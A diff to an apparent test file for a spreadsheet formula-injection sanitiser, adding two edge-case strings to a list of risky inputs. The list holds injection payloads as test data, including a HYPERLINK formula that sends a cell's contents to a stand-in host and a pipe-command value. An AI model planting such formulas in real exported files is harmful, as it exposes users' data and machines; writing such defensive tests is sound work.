@@ -14,6 +14,7 @@ RISKY = [
     '=HYPERLINK("http://t.example?x="&A1,"x")', "|cmd", '"=1', "'=1", "\uff1d1+1", "\uff0b1",
     "\uff0d1", "\uff20x", "=", "-5", "+49 30 1234", "\u00a0=1", "\u3000=1", "\ufeff=1", "\x0b=1",
     "a\n=1", "a,=1", ";=1", "a;=1", "a\t=1", 'a"=1', "''=1", "a;'=1",
+    "'\r", "''\n1",
 ]  # fmt: skip
 PLAIN = ["", "Tent", "What's up?", "5", "a - b", "cleo@mail.example", "1=1", "it's = fine", "'tis"]
 SIGNS = st.text(alphabet="=+-@|'\" ;,\t\r\nab5\uff1d\uff20", max_size=12) | st.text(max_size=30)
